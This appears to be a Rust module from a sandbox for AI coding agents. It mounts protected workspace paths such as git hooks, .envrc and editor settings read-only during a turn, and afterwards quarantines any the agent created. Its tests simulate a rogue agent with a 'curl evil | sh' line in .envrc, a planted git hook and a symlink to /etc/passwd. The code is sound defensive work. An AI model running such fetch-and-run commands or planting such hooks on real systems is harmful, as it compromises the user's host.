//! Protected paths ([`crate::session::walls::protect`]) applied to a bind-mode workspace on the host, around
//! one turn: what exists when the turn starts is mounted read-only over itself in the agent's
//! container; what is there after the turn and was not (the agent created it, or replaced
//! what was) is moved aside into a quarantine directory under caw-box's data dir, per session
//! and turn, so no host tool picks it up.
//!
//! It reads the workspace as data and never follows a symlink in it: each path is reached
//! one component at a time by `lstat`; a path behind a symlink counts as absent; a protected
//! path that is itself a symlink is made read-only where it leads only when that is inside
//! the workspace (nothing outside is ever mounted). Not the mounts themselves (the backend).

use std::os::unix::fs::{DirBuilderExt, MetadataExt};
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use uuid::Uuid;

use crate::backend::MountSpec;
use crate::event::Quarantined;
use crate::provider::WORKSPACE_DIR;

/// A config file larger than this is not read for `core.hooksPath`.
const MAX_CONFIG_BYTES: u64 = 1 << 20;

/// The protected paths of one bind-mode turn, as found when it started.
#[derive(Debug, Clone)]
pub struct Guard {
    workspace: PathBuf,
    found: Vec<Found>,
    /// Where this turn's quarantined paths go.
    dir: PathBuf,
    /// Its record: what was moved there (`wait` reads it).
    manifest: PathBuf,
}

#[derive(Debug, Clone)]
struct Found {
    path: String,
    /// The symlinks on its way from the workspace's top when the turn started.
    links: Vec<Link>,
    state: State,
}

/// A symlink on the way to a protected path: where it is (relative, its parents real
/// directories) and its target.
type Link = (String, PathBuf);

/// How a protected path is reached from the workspace's top, symlinks among its parents
/// resolved only where they lead to a directory inside the workspace.
struct Route {
    /// The symlinks passed, in order (the last may be one that leads out).
    links: Vec<Link>,
    /// Where the path is (relative, its parents real directories) and its own metadata;
    /// `None`: not there, or not reachable inside the workspace.
    at: Option<(String, std::fs::Metadata)>,
}

/// The route to `rel` in `ws` (canonical) as it is now. Never follows the last component.
fn route(ws: &Path, rel: &str) -> Route {
    let parts: Vec<&str> = rel.split('/').collect();
    let mut here = String::new();
    let mut links = Vec::new();
    for (i, part) in parts.iter().enumerate() {
        let at = if here.is_empty() {
            part.to_string()
        } else {
            format!("{here}/{part}")
        };
        let Ok(meta) = std::fs::symlink_metadata(ws.join(&at)) else {
            break;
        };
        if i + 1 == parts.len() {
            return Route {
                links,
                at: Some((at, meta)),
            };
        }
        if meta.file_type().is_dir() {
            here = at;
            continue;
        }
        if !meta.file_type().is_symlink() {
            break;
        }
        let Ok(target) = std::fs::read_link(ws.join(&at)) else {
            break;
        };
        links.push((at.clone(), target));
        // Followed only to a directory inside the workspace.
        match std::fs::canonicalize(ws.join(&at)) {
            Ok(real) if real.is_dir() => match real.strip_prefix(ws) {
                Ok(inside) => here = inside.to_string_lossy().into_owned(),
                Err(_) => break,
            },
            _ => break,
        }
    }
    Route { links, at: None }
}

#[derive(Debug, Clone, PartialEq)]
enum State {
    /// Not there (or behind a symlink or a file): whatever is there after the turn is new.
    Absent,
    /// There: the path's own identity (a symlink's own), and what the agent sees read-only.
    Present {
        dev: u64,
        ino: u64,
        /// The path inside the workspace that is mounted read-only (where a symlink leads);
        /// `None`: nothing to mount (a symlink that leads out of the workspace).
        mount: Option<String>,
        /// A symlink's target, to put back if the agent replaced it.
        link: Option<PathBuf>,
    },
}

/// The record of a turn's quarantine, beside its directory.
#[derive(Debug, Default, Serialize, Deserialize)]
struct Manifest {
    paths: Vec<String>,
}

/// Where the paths the agent created in turn `turn` of `session` go:
/// `<data dir>/quarantine/<session>/turn-<n>`.
pub fn turn_dir(session: Uuid, turn: u32) -> crate::error::Result<PathBuf> {
    Ok(crate::dirs::data_dir()?
        .join("quarantine")
        .join(session.to_string())
        .join(format!("turn-{turn}")))
}

/// What a turn's quarantine holds, from its record on this host (`wait`).
pub fn recorded(session: Uuid, turn: u32) -> Option<Quarantined> {
    let dir = turn_dir(session, turn).ok()?;
    let manifest: Manifest =
        serde_json::from_slice(&std::fs::read(dir.with_extension("json")).ok()?).ok()?;
    (!manifest.paths.is_empty()).then(|| Quarantined {
        dir: dir.display().to_string(),
        paths: manifest.paths,
    })
}

/// `core.hooksPath` of the workspace's `.git/config`, when it names a path inside the
/// workspace (relative: to the workspace's top, where git runs hooks).
fn hooks_path_inside(ws: &Path, given_ws: &str) -> Option<String> {
    let (at, meta) = route(ws, ".git/config").at?;
    if !meta.file_type().is_file() || meta.len() > MAX_CONFIG_BYTES {
        return None;
    }
    let text = std::fs::read(ws.join(at)).ok()?;
    let value = crate::session::walls::protect::hooks_path(&String::from_utf8_lossy(&text))?;
    if value.starts_with('~') {
        return None;
    }
    if value.starts_with('/') {
        let ws_text = ws.display().to_string();
        for top in [ws_text.as_str(), given_ws.trim_end_matches('/')] {
            if let Some(rest) = value.strip_prefix(top).filter(|r| r.starts_with('/')) {
                return crate::session::walls::protect::normalise(rest.trim_start_matches('/'));
            }
        }
        return None;
    }
    crate::session::walls::protect::normalise(&value)
}

impl Guard {
    /// Looks at `paths` (and the directory `core.hooksPath` names) in workspace `ws` as a
    /// turn starts; what the agent creates goes to `dir` ([`turn_dir`]).
    pub fn survey(ws: &str, paths: &[String], dir: PathBuf) -> Guard {
        let workspace = std::fs::canonicalize(ws).unwrap_or_else(|_| PathBuf::from(ws));
        let mut paths = paths.to_vec();
        if let Some(hooks) = hooks_path_inside(&workspace, ws) {
            if !paths.contains(&hooks) {
                tracing::debug!("core.hooksPath {hooks} is protected too");
                paths.push(hooks);
            }
        }
        let found = paths
            .into_iter()
            .map(|path| {
                let route = route(&workspace, &path);
                let state = survey_one(&workspace, route.at);
                Found {
                    path,
                    links: route.links,
                    state,
                }
            })
            .collect();
        Guard {
            manifest: dir.with_extension("json"),
            workspace,
            found,
            dir,
        }
    }

    /// The read-only mounts that keep the existing protected paths from the agent, nested in
    /// the workspace's own mount.
    pub fn mounts(&self) -> Vec<MountSpec> {
        let mut targets: Vec<&str> = self
            .found
            .iter()
            .filter_map(|f| match &f.state {
                State::Present { mount, .. } => mount.as_deref(),
                State::Absent => None,
            })
            .collect();
        // Parents before what is in them; each once.
        targets.sort_by_key(|t| (t.matches('/').count(), t.to_string()));
        targets.dedup();
        targets
            .into_iter()
            .map(|t| {
                MountSpec::host_dir(
                    self.workspace.join(t).display().to_string(),
                    &format!("{WORKSPACE_DIR}/{t}"),
                )
                .read_only()
            })
            .collect()
    }

    /// Moves aside each protected path that is there now and was not when the turn started
    /// (or is not what was there): the agent's. Returns what was moved, where, in all this
    /// turn (a second sweep adds to the first's). Never follows a symlink; a path that
    /// cannot be moved is left with a warning naming it.
    pub fn sweep(&self) -> Option<Quarantined> {
        let mut moved = Vec::new();
        for f in &self.found {
            self.sweep_one(f, &mut moved);
        }
        let mut manifest: Manifest = std::fs::read(&self.manifest)
            .ok()
            .and_then(|b| serde_json::from_slice(&b).ok())
            .unwrap_or_default();
        if !moved.is_empty() {
            for p in moved {
                if !manifest.paths.contains(&p) {
                    manifest.paths.push(p);
                }
            }
            let json = serde_json::to_vec_pretty(&manifest).expect("manifests serialize");
            if let Err(e) = crate::dirs::write_private(&self.manifest, &json) {
                tracing::warn!("could not record the quarantine of this turn: {e}");
            }
        }
        (!manifest.paths.is_empty()).then(|| Quarantined {
            dir: self.dir.display().to_string(),
            paths: manifest.paths,
        })
    }

    /// Sweeps one protected path: first a symlink on its way that the agent made or changed
    /// (that symlink is moved, and one of the user's put back), then the path itself.
    fn sweep_one(&self, f: &Found, moved: &mut Vec<String>) {
        let moving = |rel: &str, moved: &mut Vec<String>| {
            match self.move_aside(rel) {
            Ok(()) => moved.push(rel.to_string()),
            Err(e) => tracing::warn!(
                "could not move the agent's protected path {rel} out of the workspace: {e}; remove it before running tools there"
            ),
        }
        };
        let put_back = |rel: &str, target: &Path| {
            let at = self.workspace.join(rel);
            if std::fs::symlink_metadata(&at).is_err() {
                let _ = std::os::unix::fs::symlink(target, &at);
            }
        };
        // Each pass moves one changed symlink; a route has a few at most.
        for _ in 0..8 {
            let now = route(&self.workspace, &f.path);
            if let Some((rel, _)) = now.links.iter().find(|l| !f.links.contains(l)) {
                let before = f.links.iter().find(|(at, _)| at == rel);
                moving(rel, moved);
                if let Some((_, target)) = before {
                    put_back(rel, target);
                }
                continue;
            }
            let Some((at, meta)) = now.at else {
                return;
            };
            if let State::Present { dev, ino, link, .. } = &f.state {
                let same = match link {
                    // A symlink's inode may be reused by what replaced it: its target tells.
                    Some(target) => {
                        meta.file_type().is_symlink()
                            && std::fs::read_link(self.workspace.join(&at)).ok().as_ref()
                                == Some(target)
                    }
                    None => {
                        !meta.file_type().is_symlink() && (meta.dev(), meta.ino()) == (*dev, *ino)
                    }
                };
                if same {
                    return;
                }
            }
            moving(&at, moved);
            // A symlink of the user's that the agent replaced is put back.
            if let State::Present {
                link: Some(target), ..
            } = &f.state
            {
                put_back(&at, target);
            }
            return;
        }
    }

    /// Moves `rel` (not followed if a symlink) to the same place under the quarantine
    /// directory (`NAME.1`, `NAME.2`... when taken).
    fn move_aside(&self, rel: &str) -> std::io::Result<()> {
        let from = self.workspace.join(rel);
        let mut to = self.dir.join(rel);
        let mut n = 0;
        while std::fs::symlink_metadata(&to).is_ok() {
            n += 1;
            to = self.dir.join(format!("{rel}.{n}"));
        }
        if let Some(parent) = to.parent() {
            private_dirs(&self.dir, parent)?;
        }
        match std::fs::rename(&from, &to) {
            Err(e) if e.raw_os_error() == Some(libc::EXDEV) => {
                copy_no_follow(&from, &to)?;
                remove_no_follow(&from)
            }
            other => other,
        }
    }
}

/// What a protected path is as a turn starts, from where its route ends.
fn survey_one(ws: &Path, at: Option<(String, std::fs::Metadata)>) -> State {
    let Some((rel, meta)) = at else {
        return State::Absent;
    };
    let (dev, ino) = (meta.dev(), meta.ino());
    if !meta.file_type().is_symlink() {
        return State::Present {
            dev,
            ino,
            mount: Some(rel),
            link: None,
        };
    }
    let link = std::fs::read_link(ws.join(&rel)).ok();
    // Where it leads, if that is inside the workspace (and not the workspace itself).
    let mount = std::fs::canonicalize(ws.join(&rel))
        .ok()
        .and_then(|real| {
            real.strip_prefix(ws)
                .ok()
                .map(|r| r.to_string_lossy().into_owned())
        })
        .filter(|r| !r.is_empty());
    State::Present {
        dev,
        ino,
        mount,
        link,
    }
}

/// Creates `dir` and its parents below `top` (and `top`), private to the user.
fn private_dirs(top: &Path, dir: &Path) -> std::io::Result<()> {
    crate::dirs::ensure_private_dir(top).map_err(|e| std::io::Error::other(e.message))?;
    std::fs::DirBuilder::new()
        .recursive(true)
        .mode(0o700)
        .create(dir)
}

/// Copies `from` to `to` without following a symlink (one is copied as a symlink);
/// other special files are left out.
fn copy_no_follow(from: &Path, to: &Path) -> std::io::Result<()> {
    let meta = std::fs::symlink_metadata(from)?;
    let kind = meta.file_type();
    if kind.is_symlink() {
        std::os::unix::fs::symlink(std::fs::read_link(from)?, to)
    } else if kind.is_dir() {
        std::fs::DirBuilder::new().mode(0o700).create(to)?;
        for entry in std::fs::read_dir(from)? {
            let entry = entry?;
            copy_no_follow(&entry.path(), &to.join(entry.file_name()))?;
        }
        Ok(())
    } else if kind.is_file() {
        std::fs::copy(from, to).map(|_| ())
    } else {
        Ok(())
    }
}

/// Removes `path` and what is in it, never following a symlink.
fn remove_no_follow(path: &Path) -> std::io::Result<()> {
    if std::fs::symlink_metadata(path)?.file_type().is_dir() {
        std::fs::remove_dir_all(path)
    } else {
        std::fs::remove_file(path)
    }
}

/// The guard of turn `turn` of `record`'s session: a bind-mode workspace with protected
/// paths; `None` for any other.
pub fn for_turn(
    record: &crate::session::store::record::SessionRecord,
    turn: u32,
) -> crate::error::Result<Option<Guard>> {
    use crate::session::store::record::WorkspaceMode;
    let settings = &record.settings;
    let Some(ws) = settings
        .workspace
        .as_deref()
        .filter(|_| settings.workspace_mode == WorkspaceMode::Bind)
    else {
        return Ok(None);
    };
    let paths = settings.protected_paths();
    if paths.is_empty() {
        return Ok(None);
    }
    let dir = turn_dir(record.session_id, turn)?;
    Ok(Some(Guard::survey(ws, &paths, dir)))
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::fs;

    fn write(dir: &Path, rel: &str, text: &str) {
        let at = dir.join(rel);
        fs::create_dir_all(at.parent().unwrap()).unwrap();
        fs::write(at, text).unwrap();
    }

    fn targets(g: &Guard) -> Vec<String> {
        g.mounts().into_iter().map(|m| m.target).collect()
    }

    /// Existing paths are mounted read-only over themselves; absent ones are not; a symlink
    /// is mounted where it leads only inside the workspace, and a path behind a symlink
    /// (or a file) counts as absent.
    #[test]
    fn what_exists_is_mounted_and_nothing_outside_the_workspace() {
        let ws = tempfile::tempdir().unwrap();
        let outside = tempfile::tempdir().unwrap();
        let w = ws.path();
        write(w, ".git/config", "[core]\n\thooksPath = tools/hooks\n");
        fs::create_dir_all(w.join(".git/hooks")).unwrap();
        fs::create_dir_all(w.join("tools/hooks")).unwrap();
        write(w, "editor/settings.json", "{}");
        std::os::unix::fs::symlink("editor", w.join(".vscode")).unwrap();
        std::os::unix::fs::symlink(outside.path(), w.join(".idea")).unwrap();
        // .claude leads out: .claude/settings.json is not reachable inside the workspace.
        write(outside.path(), "settings.json", "{}");
        std::os::unix::fs::symlink(outside.path(), w.join(".claude")).unwrap();
        // .gemini leads inside: its settings.json is protected where it is.
        write(w, "conf/gemini/settings.json", "{}");
        std::os::unix::fs::symlink("conf/gemini", w.join(".gemini")).unwrap();
        let paths = crate::session::walls::protect::effective(&[], &[]);
        let g = Guard::survey(w.to_str().unwrap(), &paths, w.join("q"));
        let real = fs::canonicalize(w).unwrap();
        assert_eq!(
            targets(&g),
            [
                "/workspace/editor",
                "/workspace/.git/config",
                "/workspace/.git/hooks",
                "/workspace/tools/hooks",
                "/workspace/conf/gemini/settings.json",
            ]
        );
        for m in g.mounts() {
            assert!(m.read_only);
            let crate::backend::MountSource::HostDir(src) = &m.source else {
                panic!("{m:?}")
            };
            assert!(Path::new(src).starts_with(&real), "{src}");
            assert_eq!(
                src.strip_prefix(real.to_str().unwrap()),
                m.target.strip_prefix("/workspace")
            );
        }
    }

    /// Across filesystems (a data dir elsewhere than the workspace) a path is copied and
    /// removed: a symlink in it stays a symlink, never what it points at.
    #[test]
    fn a_copy_follows_no_symlink() {
        let from = tempfile::tempdir().unwrap();
        let to = tempfile::tempdir().unwrap();
        let outside = tempfile::tempdir().unwrap();
        write(outside.path(), "secret", "host file\n");
        let planted = from.path().join(".vscode");
        write(&planted, "tasks.json", "{}");
        std::os::unix::fs::symlink(outside.path().join("secret"), planted.join("link")).unwrap();
        std::os::unix::fs::symlink(outside.path(), planted.join("dir-link")).unwrap();
        let dest = to.path().join(".vscode");
        copy_no_follow(&planted, &dest).unwrap();
        remove_no_follow(&planted).unwrap();
        assert!(!planted.exists());
        assert_eq!(fs::read_to_string(dest.join("tasks.json")).unwrap(), "{}");
        assert!(fs::symlink_metadata(dest.join("link"))
            .unwrap()
            .file_type()
            .is_symlink());
        assert!(fs::symlink_metadata(dest.join("dir-link"))
            .unwrap()
            .file_type()
            .is_symlink());
        // What the links pointed at is untouched.
        assert_eq!(
            fs::read_to_string(outside.path().join("secret")).unwrap(),
            "host file\n"
        );
    }

    /// After the turn, what the agent created is moved aside (also under an absent parent, a
    /// replaced symlink, or a directory renamed away), recorded for `wait`, and a replaced
    /// symlink of the user's is put back; what was there and is unchanged stays.
    #[test]
    fn what_the_agent_created_is_moved_aside() {
        let ws = tempfile::tempdir().unwrap();
        let q = tempfile::tempdir().unwrap();
        let w = ws.path();
        write(w, ".git/config", "[core]\n");
        write(w, ".git/hooks/pre-commit.sample", "#!/bin/sh\n");
        write(w, "real-envrc", "export A=1\n");
        std::os::unix::fs::symlink("real-envrc", w.join(".envrc")).unwrap();
        // The user's: a symlinked .gemini, and a directory the agent will link .codex to.
        write(w, "conf/gemini-a/notes", "a\n");
        write(w, "conf/gemini-b/settings.json", "{\"b\":1}");
        std::os::unix::fs::symlink("conf/gemini-a", w.join(".gemini")).unwrap();
        write(w, "conf/codex/config.toml", "# the user's\n");
        let paths = crate::session::walls::protect::effective(&["notes".into()], &[]);
        let dir = q.path().join("turn-1");
        let g = Guard::survey(w.to_str().unwrap(), &paths, dir.clone());
        assert_eq!(g.sweep(), None, "nothing new");

        // The agent's: a new file, a new directory, one under a new parent, a replaced
        // symlink, and a .git/hooks made anew after the old one was renamed away.
        write(w, ".gitmodules", "[submodule]\n");
        write(w, ".vscode/tasks.json", "{}");
        write(w, ".claude/settings.json", "{\"hooks\":{}}");
        fs::remove_file(w.join(".envrc")).unwrap();
        write(w, ".envrc", "curl evil | sh\n");
        fs::rename(w.join(".git/hooks"), w.join(".git/hooks-old")).unwrap();
        write(w, ".git/hooks/post-checkout", "evil\n");
        // A symlink the agent planted is moved as a symlink, not followed.
        std::os::unix::fs::symlink("/etc/passwd", w.join("notes")).unwrap();
        // A new symlink on the way to a protected path, and a retargeted one of the user's:
        // the symlinks go (the user's is put back), never what they lead to.
        std::os::unix::fs::symlink("conf/codex", w.join(".codex")).unwrap();
        fs::remove_file(w.join(".gemini")).unwrap();
        std::os::unix::fs::symlink("conf/gemini-b", w.join(".gemini")).unwrap();

        let moved = g.sweep().expect("moved");
        assert_eq!(moved.dir, dir.display().to_string());
        let mut paths = moved.paths.clone();
        paths.sort();
        assert_eq!(
            paths,
            [
                ".claude/settings.json",
                ".codex",
                ".envrc",
                ".gemini",
                ".git/hooks",
                ".gitmodules",
                ".vscode",
                "notes"
            ]
        );
        for p in &paths {
            let at = w.join(p);
            if p == ".envrc" {
                // The user's symlink is back.
                assert_eq!(fs::read_link(&at).unwrap(), Path::new("real-envrc"));
            } else if p == ".gemini" {
                assert_eq!(fs::read_link(&at).unwrap(), Path::new("conf/gemini-a"));
            } else {
                assert!(fs::symlink_metadata(&at).is_err(), "{p} is still there");
            }
            assert!(
                fs::symlink_metadata(dir.join(p)).is_ok(),
                "{p} not in quarantine"
            );
        }
        assert_eq!(
            fs::read_to_string(dir.join(".envrc")).unwrap(),
            "curl evil | sh\n"
        );
        assert_eq!(
            fs::read_link(dir.join("notes")).unwrap(),
            Path::new("/etc/passwd")
        );
        assert!(w.join(".claude").is_dir(), "only the protected file goes");
        assert!(w.join(".git/hooks-old/pre-commit.sample").is_file());
        assert!(w.join(".git/config").is_file());
        assert!(w.join("real-envrc").is_file());
        assert_eq!(
            fs::read_link(dir.join(".codex")).unwrap(),
            Path::new("conf/codex")
        );
        assert_eq!(
            fs::read_link(dir.join(".gemini")).unwrap(),
            Path::new("conf/gemini-b")
        );
        assert!(
            w.join("conf/codex/config.toml").is_file(),
            "the user's file stays"
        );
        assert!(
            w.join("conf/gemini-b/settings.json").is_file(),
            "the user's file stays"
        );
        // A second sweep moves nothing more and says all this turn moved.
        let again = g.sweep().unwrap();
        assert_eq!(again.paths.len(), 8);
        let manifest: Manifest =
            serde_json::from_slice(&fs::read(dir.with_extension("json")).unwrap()).unwrap();
        assert_eq!(manifest.paths.len(), 8);
    }
}
